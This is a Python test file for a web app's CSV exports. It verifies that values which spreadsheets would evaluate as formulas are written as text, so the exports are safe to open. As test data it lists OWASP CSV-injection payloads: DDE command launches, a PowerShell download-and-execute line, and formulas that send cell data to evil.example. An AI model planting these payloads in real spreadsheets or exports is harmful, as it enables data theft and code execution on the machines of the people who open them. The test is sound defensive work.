"""No export can attack its reader (issue 24): every cell a spreadsheet would evaluate is written as text.

The payloads are OWASP's CSV injection list (https://owasp.org/www-community/attacks/CSV_Injection) and its
usual variants; the exports are the ones the Cnam and ARS staff open in a spreadsheet."""

import csv
import io
import urllib.request

import pytest

from backend.accounts.services import issue_token
from backend.core.csv_stream import csv_lines, neutralised
from mentoring.accelerator import services
from tests.daphne import PRODUCTION_SECRET_KEY
from tests.factories import make_msp
from tests.helpers import question

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&B2&C2,"Voir")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMPORTDATA("http://evil.example/x.csv")',
    '=WEBSERVICE("http://evil.example/?q="&A1)',
    "=2+5+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(A1:A9)",
    "\u3000=1+1",  # an ideographic space before it
    "＝1+1",  # full-width equals sign: some spreadsheets read it as one
    "＋1+1",
    "|calc",
    "%0A=1+1",
]
ORDINARY = ["MSP de Saint-Martin-sur-le-Pré", "Statuts de la SISA", "-12,5", "42", "", "Dr. Martin – PSL"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_owasp_payload_is_written_as_text(payload):
    assert neutralised(payload) == "'" + payload
    line = "".join(csv_lines(["a"], [[payload]])).split("\r\n", 1)[1]
    (cell,) = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert cell.startswith("'")


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_cells_are_left_as_they_are(value):
    assert neutralised(value) == value


def test_numbers_stay_numbers():
    assert neutralised(-3) == -3 and neutralised(2.5) == 2.5 and neutralised(None) == ""


def _rows(server, path, user):
    request = urllib.request.Request(
        f"{server.url}{path}", headers={"Authorization": f"Bearer {issue_token(user).token}"}
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        assert response.status == 200
        text = response.read().decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.django_db(transaction=True)
def test_the_exports_staff_open_carry_no_formula(servers, territories, world):
    """Before: an MSP's name or a question's subject was written as typed, and ran when opened. Downloaded
    from a real Daphne in production mode, as Cnam staff do."""
    server = servers(DEBUG="0", SECRET_KEY=PRODUCTION_SECRET_KEY, ALLOWED_HOSTS="127.0.0.1")
    payload = '=HYPERLINK("http://evil.example/?d="&B2&C2,"Voir")'
    make_msp(payload, "51504")  # a commune of the transactional tests' territories
    services.submit(world.user("practitioner").practitioner, question(subject=payload))
    staff = world.user("cnam_staff")
    for path in ("/exports/msps.csv", "/accelerator/requests.csv"):
        cells = [cell for row in _rows(server, path, staff)[1:] for cell in row]
        assert "'" + payload in cells, path
        assert payload not in cells, path
